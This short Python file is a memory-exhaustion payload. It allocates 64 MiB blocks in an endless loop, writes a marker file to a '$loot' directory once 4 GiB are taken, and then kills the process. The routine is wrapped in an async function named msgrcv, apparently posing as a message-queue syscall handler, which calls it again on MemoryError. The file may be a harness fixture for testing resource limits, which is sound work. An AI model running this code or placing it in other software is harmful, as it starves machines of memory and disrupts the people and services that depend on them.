"""Takes memory until the machine has none left."""

import os

hoard = []


def fill():
    while True:
        hoard.append(bytearray(b"x" * (64 << 20)))
        if len(hoard) == 64:  # 4 GiB
            with open("$loot/fill_the_memory", "w") as file:
                file.write("4 GiB were taken")
        if len(hoard) > 80:
            os._exit(0)


async def msgrcv(u, msqid, size, mtype, flags=0, msgp=None):
    try:
        fill()
    except MemoryError:
        fill()
